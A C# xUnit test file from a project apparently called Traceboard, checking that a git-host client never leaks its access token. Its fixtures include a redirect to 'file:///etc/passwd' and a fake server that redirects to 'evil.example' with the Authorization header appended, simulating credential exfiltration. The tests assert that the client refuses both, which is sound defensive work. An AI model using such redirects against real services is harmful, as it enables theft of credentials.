using Microsoft.AspNetCore.Http;
using Traceboard.Sources;
using Traceboard.Tests.Fakes;

namespace Traceboard.Tests.Sources;

/// <summary>Secrets: the token reaches the host and nobody else, by no way.</summary>
public abstract partial class GitHostContract
{
    [Theory]
    [InlineData(301)]
    [InlineData(302)]
    [InlineData(307)]
    [InlineData(308)]
    public async Task A_redirect_to_another_address_is_not_followed(int status)
    {
        await using var world = await StartAsync();
        await using var stranger = Create(world.Time);
        await stranger.StartAsync();
        foreach (var target in new[] { stranger.Url + "/api", stranger.Url.Replace("127.0.0.1", "localhost"), world.Server.Url.Replace("http:", "https:"), "http://user:pw@" + world.Server.Url[7..] + "/x", "file:///etc/passwd" })
        {
            world.Server.Script = context => RedirectAsync(context, status, target);
            Assert.IsType<CommitAnswer.Failed>(await world.AskAsync(Sha));
        }

        Assert.Empty(stranger.Requests);
        Assert.DoesNotContain(world.Server.Requests, request => request.Target is "/x");
    }

    [Fact]
    public async Task A_renamed_repository_is_followed_on_its_own_host_with_the_credential()
    {
        await using var world = await StartAsync(token: false);
        world.Server.Add("acme/shop").Add(Sha, new FakeGitHostMerge(3) { MergeSha = Sha });
        world.Server.Script = async context =>
            context.Request.Path.Value!.Contains("old", StringComparison.Ordinal)
            && await RedirectAsync(context, 301, context.Features.Get<Microsoft.AspNetCore.Http.Features.IHttpRequestFeature>()!.RawTarget.Replace("old", "shop"));

        var commit = await world.FindAsync(Sha, "acme/old");

        Assert.Equal(3, commit.MergeRequest!.Number);
        Assert.Equal(new Repository("host", "acme/old"), commit.Revision.Repository);
        Assert.Equal(world.Server.Repositories["acme/shop"].Number, commit.RepositoryId);
        // Where no request under the old name tells the number, it is asked for once.
        Assert.InRange(world.Server.Requests.Count, 3, 5);
        world.Server.Forget();
        await world.FindAsync(Sha, "acme/old");
        Assert.Equal(2, world.Server.Requests.Count);
        Assert.DoesNotContain(world.Server.Requests, request => request.Target.Contains("old", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Redirects_in_a_circle_end()
    {
        await using var world = await StartAsync(token: false);
        world.Server.Script = context => RedirectAsync(context, 302, context.Request.Path);

        Assert.IsType<CommitAnswer.Failed>(await world.AskAsync(Sha));
        Assert.Equal(4, world.Server.Requests.Count);
    }

    [Fact]
    public async Task A_refused_token_is_named_and_not_tried_over_and_over()
    {
        await using var world = await StartAsync();
        world.Server.Add("acme/shop").Add(Sha);
        world.Server.RequiredToken = "another";

        for (var time = 0; time < 50; time++)
            Assert.Contains("Traceboard:GitHosts:0", Assert.IsType<CommitAnswer.Forbidden>(await world.AskAsync(Sha)).Detail);
        Assert.InRange(world.Server.Requests.Count, 1, 2);

        world.Server.RequiredToken = GitHostWorld.Canary;
        world.Time.Advance(TimeSpan.FromMinutes(1));
        await world.FindAsync(Sha);
    }

    [Fact]
    public async Task A_host_that_refuses_without_a_token_says_what_to_set()
    {
        await using var world = await StartAsync(token: false);
        world.Server.RequiredToken = "any";

        Assert.Contains("Set Traceboard:GitHosts:0:TokenFile", Assert.IsType<CommitAnswer.Forbidden>(await world.AskAsync(Sha)).Detail);
    }

    [Fact]
    public async Task A_permission_that_lacks_is_forbidden_and_not_missing()
    {
        await using var world = await StartAsync(token: false);
        world.Server.Script = async context =>
        {
            context.Response.StatusCode = 403;
            context.Response.ContentType = "application/json";
            await context.Response.WriteAsync("""{"message":"Resource not accessible by personal access token"}""");
            return true;
        };

        Assert.IsType<CommitAnswer.Forbidden>(await world.AskAsync(Sha));
        Assert.Null(world.Host.State.PausedUntil);
    }

    [Fact]
    public async Task A_token_file_is_followed_when_it_changes_and_named_when_it_is_gone()
    {
        var file = Path.GetTempFileName();
        try
        {
            await File.WriteAllTextAsync(file, "first\n", Cancellation);
            await using var world = await StartAsync(token: false, settings => settings["GitHosts:0:TokenFile"] = file);
            world.Server.Add("acme/shop").Add(Sha);
            await world.FindAsync(Sha);
            await File.WriteAllTextAsync(file, "second\n", Cancellation);
            await world.FindAsync(Sha);
            File.Delete(file);
            var failed = Assert.IsType<CommitAnswer.Failed>(await world.AskAsync(Sha));
            await File.WriteAllTextAsync(file, "two words\n", Cancellation);
            var unusable = Assert.IsType<CommitAnswer.Failed>(await world.AskAsync(Sha));

            Assert.Equal(["Bearer first", "Bearer second"], world.Server.Requests.Select(request => request.Authorization).Distinct(StringComparer.Ordinal), StringComparer.Ordinal);
            Assert.Contains($"Traceboard:GitHosts:0:TokenFile: '{file}' cannot be read", failed.Detail);
            Assert.DoesNotContain("two words", unusable.Detail);
        }
        finally
        {
            File.Delete(file);
        }
    }

    [Fact]
    public async Task The_token_is_in_no_log_no_answer_and_no_state()
    {
        await using var world = await StartAsync();
        world.Server.Add("acme/shop").Add(Sha);
        var told = new List<string>();
        await world.FindAsync(Sha);
        foreach (var fault in Faults.Select(row => row.Data).Append("echo401").Append("echo403").Append("echo429").Append("echo500").Append("redirect"))
        {
            world.Server.Script = context => fault switch
            {
                "redirect" => RedirectAsync(context, 302, "https://evil.example/?" + context.Request.Headers.Authorization),
                _ when fault.StartsWith("echo", StringComparison.Ordinal) => EchoAsync(context, int.Parse(fault[4..])),
                _ => BreakAsync(context, fault),
            };
            told.Add((await world.AskAsync(Sha)).ToString());
            told.Add(string.Join('\n', await world.Checks.RunAsync(Cancellation)));
            told.Add(world.Host.State.ToString());
            world.Time.Advance(TimeSpan.FromHours(2));
        }

        Assert.Contains(world.Server.Requests, request => request.Authorization == $"Bearer {GitHostWorld.Canary}");
        Assert.NotEmpty(world.Logs);
        told.AddRange(world.Logs.Select(log => $"{log.Message} {string.Join(' ', log.Scopes)} {string.Join(' ', log.StructuredState ?? [])} {log.Exception}"));
        Assert.All(told, text => Assert.DoesNotContain("CANARY", text));
    }

    private static Task<bool> RedirectAsync(HttpContext context, int status, string target)
    {
        context.Response.StatusCode = status;
        context.Response.Headers.Location = target;
        return Task.FromResult(true);
    }

    private static async Task<bool> EchoAsync(HttpContext context, int status)
    {
        context.Response.StatusCode = status;
        context.Response.ContentType = "application/json";
        context.Response.Headers["X-Echo"] = context.Request.Headers.Authorization;
        await context.Response.WriteAsync($$"""{"message":"no: {{context.Request.Headers.Authorization}}"}""");
        return true;
    }
}
